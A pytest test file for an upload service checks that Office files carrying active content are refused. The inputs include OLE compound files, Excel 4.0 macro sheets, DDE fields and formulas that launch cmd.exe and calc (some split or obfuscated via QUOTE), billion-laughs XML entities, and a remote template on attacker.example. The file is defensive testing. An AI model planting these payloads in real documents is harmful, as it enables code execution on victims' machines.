"""Office files: active content that hides from names (security review). An OLE compound file
(a legacy .doc/.xls/.ppt that can carry VBA) under any name or content type, Excel 4.0 macro
sheets, DDE fields, links and formulas, and XML parts registered under another extension are
all refused, audited, nothing stored; ordinary fields, formulas and links are still accepted.
The documents are generated (python-docx, openpyxl, zipfile)."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from assets.documents import ooxml
from tests.assets.test_office_files import assert_refused, docx_bytes, entry, rezip, xlsx_bytes

pytestmark = pytest.mark.django_db

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"


def cfb_bytes() -> bytes:
    """A small OLE compound file (CFB v3): header, one FAT sector, one directory sector with
    the root entry — what a legacy .doc/.xls/.ppt (and a VBA storage) starts with."""
    header = bytearray(512)
    header[0:8] = ooxml.CFB_SIGNATURE
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)  # minor, major, byte order, shifts
    struct.pack_into("<I", header, 44, 1)  # one FAT sector
    struct.pack_into("<I", header, 48, 1)  # the directory starts at sector 1
    struct.pack_into("<I", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<IIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)  # no mini FAT, no DIFAT
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    header[80:512] = b"\xff" * 432
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff" * 504  # FAT sector, directory chain end
    root = bytearray(128)
    name = "Root Entry".encode("utf-16-le") + b"\x00\x00"
    root[0 : len(name)] = name
    struct.pack_into("<H", root, 64, len(name))
    root[66] = 5  # root storage
    struct.pack_into("<III", root, 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("<I", root, 116, 0xFFFFFFFE)
    directory = bytes(root) + b"\x00" * 384
    return bytes(header) + fat + directory


def with_content_type(data: bytes, xml: bytes) -> bytes:
    """The package with ``xml`` (a Default or Override element) added to its content types."""
    types = entry(data, "[Content_Types].xml").replace(b"</Types>", xml + b"</Types>")
    return rezip(data, replace={"[Content_Types].xml": types})


def with_document_body(data: bytes, body: bytes) -> bytes:
    """A docx whose body gets ``body`` (WordprocessingML) inserted before the section properties."""
    document = entry(data, "word/document.xml")
    marker = document.rindex(b"<w:sectPr")
    return rezip(data, replace={"word/document.xml": document[:marker] + body + document[marker:]})


def instruction_runs(*pieces: str, result: str = "1") -> bytes:
    """One complex field: begin, its instruction split over ``pieces`` runs, separate, result, end."""
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    runs += [f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces]
    runs += ['<w:r><w:fldChar w:fldCharType="separate"/></w:r>', f"<w:r><w:t>{result}</w:t></w:r>"]
    runs += ['<w:r><w:fldChar w:fldCharType="end"/></w:r>']
    return "".join(runs).encode()


# --- OLE compound files -----------------------------------------------------------------------


def test_an_embedded_legacy_word_document_is_refused(upload, asset_storage):
    data = with_content_type(
        rezip(docx_bytes(image=False), add={"word/embeddings/x.doc": cfb_bytes()}),
        b'<Default Extension="doc" ContentType="application/msword"/>',
    )
    assert_refused(upload, asset_storage, data, "embedded.docx", "office_macros")


@pytest.mark.parametrize(
    "name",
    ["word/media/picture.dat", "customXml/item9.xml", "docProps/preview.jpeg", "word/embeddings/object.docx"],
)
def test_a_compound_file_under_any_name_is_refused(upload, asset_storage, name):
    data = rezip(docx_bytes(image=False), add={name: cfb_bytes()})
    assert_refused(upload, asset_storage, data, "hidden.docx", "office_macros")


# --- Excel 4.0 macro sheets -------------------------------------------------------------------

MACROSHEET = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>'
)


@pytest.mark.parametrize("flavour", ["macrosheet", "intlmacrosheet"])
def test_an_excel_4_macro_sheet_content_type_is_refused_wherever_the_part_is(upload, asset_storage, flavour):
    override = (
        f'<Override PartName="/xl/worksheets/sheet9.xml" ContentType="application/vnd.ms-excel.{flavour}+xml"/>'
    ).encode()
    data = with_content_type(rezip(xlsx_bytes(), add={"xl/worksheets/sheet9.xml": MACROSHEET}), override)
    assert_refused(upload, asset_storage, data, "xlm.xlsx", "office_macros")


def test_a_macrosheets_part_is_refused_even_without_a_content_type(upload, asset_storage):
    data = rezip(xlsx_bytes(), add={"xl/macrosheets/sheet1.xml": MACROSHEET})
    assert_refused(upload, asset_storage, data, "xlm.xlsx", "office_macros")


def xlsx_with_relationship(relationship: bytes, *, add: dict[str, bytes] | None = None) -> bytes:
    """A workbook whose relationships also list ``relationship`` (and that holds the ``add`` parts)."""
    original = xlsx_bytes()
    rels = entry(original, WORKBOOK_RELS).replace(b"</Relationships>", relationship + b"</Relationships>")
    return rezip(original, replace={WORKBOOK_RELS: rels}, add=add)


def test_a_macro_sheet_relationship_is_refused(upload, asset_storage):
    data = xlsx_with_relationship(
        b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'xlMacrosheet" Target="worksheets/sheet9.xml"/>',
        add={"xl/worksheets/sheet9.xml": MACROSHEET},
    )
    assert_refused(upload, asset_storage, data, "xlm.xlsx", "office_macros")


# --- DDE --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pieces",
    [
        (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ',),
        (" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc.exe"'),  # split over runs
        (' dde "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc.exe"',),
    ],
)
def test_a_dde_field_in_a_word_document_is_refused(upload, asset_storage, pieces):
    data = with_document_body(docx_bytes(image=False), b"<w:p>" + instruction_runs(*pieces) + b"</w:p>")
    refusal = assert_refused(upload, asset_storage, data, "dde.docx", "office_dde")
    assert refusal.message == str(ooxml.OFFICE_DDE)


def field_around(nested: bytes, *, before: str = "", after: str = "", result: str | None = None) -> bytes:
    """A paragraph with one complex field whose instruction is ``before``, the ``nested`` field,
    then ``after``; with a result when ``result`` is given."""
    runs = [b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    for text, field in ((before, b""), ("", nested), (after, b"")):
        if text:
            runs.append(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'.encode())
        runs.append(field)
    if result is not None:
        runs.append(f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'.encode())
    runs.append(b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return b"".join(runs)


CMD = " c:\\windows\\system32\\cmd.exe"


def test_a_dde_field_whose_name_a_nested_field_computes_is_refused(upload, asset_storage):
    nested = instruction_runs(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO")
    data = with_document_body(docx_bytes(image=False), field_around(nested, after=CMD))
    assert_refused(upload, asset_storage, data, "quote.docx", "office_dde")


def test_a_dde_field_whose_name_a_nested_field_completes_is_refused(upload, asset_storage):
    """``{ DD{ QUOTE 69 65 85 84 79 } c:\\…cmd.exe }``: Word puts the nested result into the
    outer instruction, so the name reads DDEAUTO although no run holds more than ``DD``."""
    nested = instruction_runs(" QUOTE 69 65 85 84 79 ", result="EAUTO")
    data = with_document_body(docx_bytes(image=False), field_around(nested, before=" DD", after=CMD))
    assert_refused(upload, asset_storage, data, "split.docx", "office_dde")


def test_a_field_nested_in_an_instruction_after_its_name_is_accepted(upload):
    """``{ IF { MERGEFIELD Amount } > 100 "large" "small" }``: the name IF has ended first."""
    nested = instruction_runs(" MERGEFIELD Amount ", result="250")
    body = field_around(nested, before=" IF ", after=' &gt; 100 "large" "small" ', result="large")
    asset = upload(with_document_body(docx_bytes(image=False), body), "if.docx")
    assert asset.page_count == 1


def test_a_simple_dde_field_is_refused(upload, asset_storage):
    body = b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    data = with_document_body(docx_bytes(image=False), body)
    assert_refused(upload, asset_storage, data, "simple.docx", "office_dde")


def test_ordinary_fields_nested_in_results_are_accepted(upload):
    toc_result = b"<w:r><w:t>Intro</w:t></w:r>" + instruction_runs(" PAGEREF _Toc1 \\h ", result="1")
    body = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + toc_result
        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        + b"<w:p>"
        + instruction_runs(" PAGE ")
        + b'<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple></w:p>'
        + b"<w:p>"
        + instruction_runs(' IF 1 = 1 "', "yes", '" "no" ', result="yes")
        + b"</w:p>"
    )
    asset = upload(with_document_body(docx_bytes(image=False), body), "fields.docx")
    assert asset.page_count == 1


def xlsx_with_formulas(*formulas: str) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Data|2024"
    sheet.append(["Total", 12])
    for formula in formulas:
        sheet.append([formula])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "=SUM(1,2)+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''"])
def test_a_dde_formula_in_a_cell_is_refused(upload, asset_storage, formula):
    assert_refused(upload, asset_storage, xlsx_with_formulas(formula), "dde.xlsx", "office_dde")


def test_a_dde_defined_name_is_refused(upload, asset_storage):
    original = xlsx_bytes()
    workbook = entry(original, "xl/workbook.xml").replace(
        b"</workbook>",
        b"<definedNames><definedName name=\"run\">cmd|'/c calc'!A0</definedName></definedNames></workbook>",
    )
    data = rezip(original, replace={"xl/workbook.xml": workbook})
    assert_refused(upload, asset_storage, data, "name.xlsx", "office_dde")


def spreadsheet_part(root: bytes, body: bytes) -> bytes:
    """An XML part of a workbook: ``body`` inside a SpreadsheetML element named ``root``."""
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + b"<"
        + root
        + b' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + body
        + b"</"
        + root
        + b">"
    )


def test_an_excel_dde_link_is_refused(upload, asset_storage):
    link = spreadsheet_part(
        b"externalLink",
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>',
    )
    override = (
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
    )
    data = with_content_type(rezip(xlsx_bytes(), add={"xl/externalLinks/externalLink1.xml": link}), override)
    assert_refused(upload, asset_storage, data, "link.xlsx", "office_dde")


def xlsx_with_rules(formula: str) -> bytes:
    """A workbook whose conditional formatting and data validation use ``formula`` (openpyxl
    writes them as ``<formula>`` and ``<formula1>``, the elements Excel evaluates)."""
    import openpyxl
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.worksheet.datavalidation import DataValidation

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Total", 12])
    sheet.conditional_formatting.add("B1:B9", FormulaRule(formula=[formula]))
    validation = DataValidation(type="list", formula1=formula)
    validation.add("A2")
    sheet.add_data_validation(validation)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("where", ["conditional formatting", "data validation"])
def test_a_dde_formula_in_a_rule_is_refused(upload, asset_storage, where):
    data = xlsx_with_rules("cmd|' /C calc'!A0")
    sheet = entry(data, "xl/worksheets/sheet1.xml")
    # Keep only the rule under test, so that each case proves its own element is read.
    if where == "conditional formatting":
        sheet = sheet[: sheet.index(b"<dataValidations")] + sheet[sheet.index(b"</dataValidations>") + 18 :]
        assert b"<formula>" in sheet
    else:
        sheet = sheet[: sheet.index(b"<conditionalFormatting")] + sheet[sheet.index(b"</conditionalFormatting>") + 24 :]
        assert b"<formula1>" in sheet
    data = rezip(data, replace={"xl/worksheets/sheet1.xml": sheet})
    assert_refused(upload, asset_storage, data, "rule.xlsx", "office_dde")


def test_a_dde_formula_in_a_pivot_cache_field_is_refused(upload, asset_storage):
    cache = spreadsheet_part(
        b"pivotCacheDefinition",
        b'<cacheFields count="1"><cacheField name="x" formula="cmd|\'/c calc\'!A0"/></cacheFields>',
    )
    data = rezip(xlsx_bytes(), add={"xl/pivotCache/pivotCacheDefinition1.xml": cache})
    assert_refused(upload, asset_storage, data, "pivot.xlsx", "office_dde")


def test_ordinary_rules_are_accepted(upload):
    asset = upload(xlsx_with_rules("$B$1>10"), "rules.xlsx")
    assert asset.page_count == 1


def test_pipes_in_strings_and_sheet_names_are_not_dde(upload):
    data = xlsx_with_formulas('="a|b"&"c"', "='Data|2024'!B1*2", '=IF(B1>1,"x|y","")')
    asset = upload(data, "pipes.xlsx")
    assert asset.page_count == 1


# --- XML parts under another extension --------------------------------------------------------

MACRO_OVERRIDE = (
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
)
LAUGHS = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n'


def renamed_main_part(data: bytes, body: bytes) -> bytes:
    """The docx with its main part moved to ``word/document.txt`` (content type Override and
    relationships updated: Word opens it) and its XML replaced by ``body``."""
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            name, content = info.filename, source.read(info.filename)
            if name == "word/document.xml":
                name, content = "word/document.txt", body
            elif name == "word/_rels/document.xml.rels":
                name = "word/_rels/document.txt.rels"
            elif name in ("[Content_Types].xml", "_rels/.rels"):
                content = content.replace(b"/word/document.xml", b"/word/document.txt")
                content = content.replace(b'Target="word/document.xml"', b'Target="word/document.txt"')
            target.writestr(name, content)
    return output.getvalue()


def test_a_main_part_registered_under_another_extension_is_safety_parsed(upload, asset_storage):
    original = docx_bytes(image=False)
    body = entry(original, "word/document.xml")
    hostile = body.split(b"?>", 1)[0] + b"?>\n" + LAUGHS + body.split(b"?>", 1)[1]
    assert_refused(upload, asset_storage, renamed_main_part(original, hostile), "txt.docx", "office_unsafe_xml")


def test_a_part_whose_default_content_type_is_xml_is_safety_parsed(upload, asset_storage):
    data = with_content_type(
        rezip(docx_bytes(image=False), add={"customXml/item1.dat": LAUGHS + b"<a>&lol2;</a>"}),
        b'<Default Extension="dat" ContentType="application/vnd.example.settings+xml"/>',
    )
    assert_refused(upload, asset_storage, data, "dat.docx", "office_unsafe_xml")


def test_a_renamed_but_safe_main_part_is_still_read(upload):
    original = docx_bytes(image=False)
    asset = upload(renamed_main_part(original, entry(original, "word/document.xml")), "renamed.docx")
    assert asset.page_count == 1


# --- packages inside packages -----------------------------------------------------------------


def docx_embedding(package: bytes, name: str = "word/embeddings/chart.dat") -> bytes:
    return rezip(docx_bytes(image=False), add={name: package})


def test_an_embedded_workbook_is_accepted(upload):
    asset = upload(docx_embedding(xlsx_bytes(), "word/embeddings/Microsoft_Excel_Worksheet.xlsx"), "chart.docx")
    assert asset.page_count == 1


@pytest.mark.parametrize(
    ("inner", "code"),
    [
        (lambda: xlsx_with_formulas("=cmd|' /C calc'!A0"), "office_dde"),
        (lambda: rezip(xlsx_bytes(), add={"xl/vbaProject.bin": b"\x00" * 64}), "office_macros"),
        (lambda: rezip(xlsx_bytes(), add={"xl/embeddings/x.dat": cfb_bytes()}), "office_macros"),
        (lambda: with_content_type(xlsx_bytes(), MACRO_OVERRIDE), "office_macros"),
        (lambda: rezip(xlsx_bytes(), add={"xl/data.xml": LAUGHS + b"<a>&lol2;</a>"}), "office_unsafe_xml"),
    ],
    ids=["dde", "vba", "ole", "macro-type", "entities"],
)
def test_an_embedded_package_is_checked_by_content_whatever_its_name(upload, asset_storage, inner, code):
    assert_refused(upload, asset_storage, docx_embedding(inner()), "embedded.docx", code)


def test_an_external_relationship_inside_an_embedded_package_is_refused(upload, asset_storage):
    inner = xlsx_with_relationship(
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    assert_refused(upload, asset_storage, docx_embedding(inner), "remote.docx", "office_external_relationship")


def test_packages_nested_too_deep_are_refused(upload, asset_storage):
    inner = xlsx_bytes()
    for level in range(ooxml.MAX_NESTING - 1):  # with the docx around it: MAX_NESTING levels
        inner = rezip(xlsx_bytes(), add={f"xl/embeddings/level{level}.xlsx": inner})
    deeper = rezip(xlsx_bytes(), add={"xl/embeddings/deeper.xlsx": inner})
    refusal = assert_refused(upload, asset_storage, docx_embedding(deeper), "too-deep.docx", "office_nesting")
    assert str(ooxml.MAX_NESTING) in refusal.message
    assert upload(docx_embedding(inner, "word/embeddings/deep.xlsx"), "deep-enough.docx").page_count == 1


def test_an_embedded_package_counts_against_the_byte_budget(upload, asset_storage, settings):
    """1.2 MiB inflated inside a 1 MiB budget, although the outer file sees only a few KiB (every
    entry stays under the size from which the compression ratio is checked)."""
    settings.OFFICE_MAX_UNCOMPRESSED_MB = 1
    blank = b"\0" * (ooxml.RATIO_FLOOR - 1024)
    inner = rezip(xlsx_bytes(), add={f"xl/media/blank{number}.dat": blank for number in range(20)})
    data = docx_embedding(inner)
    assert len(data) < 64 * 1024
    assert_refused(upload, asset_storage, data, "budget.docx", "office_archive_limit", status=413)


def test_an_archive_behind_a_prefix_is_refused_as_ambiguous(upload, asset_storage):
    """ZIP readers find an archive from its end record, so a macro workbook behind a few bytes is
    still an archive to them; it is refused, never taken for plain data."""
    macro_workbook = rezip(xlsx_bytes(), add={"xl/vbaProject.bin": b"\0" * 64})
    data = docx_embedding(b"JUNK" + macro_workbook)
    assert_refused(upload, asset_storage, data, "prefixed.docx", "ambiguous")


def test_entries_of_nested_packages_count_against_one_entry_budget(upload, asset_storage, settings):
    outer, inner = docx_embedding(xlsx_bytes()), xlsx_bytes()
    outer_entries, inner_entries = (len(zipfile.ZipFile(io.BytesIO(data)).infolist()) for data in (outer, inner))
    settings.OFFICE_MAX_ENTRIES = outer_entries + inner_entries - 1  # each alone fits, not both
    assert_refused(upload, asset_storage, outer, "many.docx", "office_archive_limit", status=413)
    settings.OFFICE_MAX_ENTRIES = outer_entries + inner_entries
    assert upload(outer, "enough.docx").page_count == 1


def test_an_expression_field_around_a_nested_field_is_accepted(upload):
    """``{ ={ PAGE }-1 }``: page numbering arithmetic; "=" cannot name DDE."""
    body = field_around(instruction_runs(" PAGE ", result="2"), before="=", after="-1 ", result="1")
    asset = upload(with_document_body(docx_bytes(image=False), body), "formula.docx")
    assert asset.page_count == 1


@pytest.mark.parametrize(
    "inside",
    [
        b'<w:fldSimple w:instr=" QUOTE 69 65 85 84 79 "><w:r><w:t>EAUTO</w:t></w:r></w:fldSimple>',
        b"<w:r><w:t>EAUTO</w:t></w:r>",
    ],
    ids=["simple field", "text run"],
)
def test_a_dde_name_completed_by_a_simple_field_or_a_text_run_is_refused(upload, asset_storage, inside):
    body = field_around(inside, before=" DD", after=CMD)
    data = with_document_body(docx_bytes(image=False), body)
    assert_refused(upload, asset_storage, data, "completed.docx", "office_dde")


def test_a_dde_formula_in_a_table_column_is_refused(upload, asset_storage):
    table = spreadsheet_part(
        b"table",
        b'<tableColumns count="1"><tableColumn id="1" name="x">'
        b"<calculatedColumnFormula>cmd|'/c calc'!A0</calculatedColumnFormula></tableColumn></tableColumns>",
    )
    data = rezip(xlsx_bytes(), add={"xl/tables/table1.xml": table})
    assert_refused(upload, asset_storage, data, "table.xlsx", "office_dde")
